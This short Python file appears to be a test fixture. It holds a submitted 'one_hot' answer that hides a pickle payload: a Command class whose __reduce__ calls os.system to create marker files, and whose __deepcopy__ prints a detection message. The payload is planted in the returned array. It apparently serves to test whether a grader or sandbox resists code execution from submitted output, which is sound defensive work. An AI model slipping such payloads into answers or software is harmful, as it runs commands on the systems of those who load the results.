"""Returns an object whose unpickling or copying would run a command."""

ANSWERS = {
    "one_hot": """
import os


class Command:
    def __reduce__(self):
        return os.system, ("touch attack-was-here /tmp/attack-was-here ~/attack-was-here",)

    def __deepcopy__(self, memo):
        print("FOUND a copy")
        return np.eye(3)


def one_hot(ids, V):
    rows = np.empty((len(ids), V), dtype=object)
    rows[:] = Command()
    return rows
""",
}
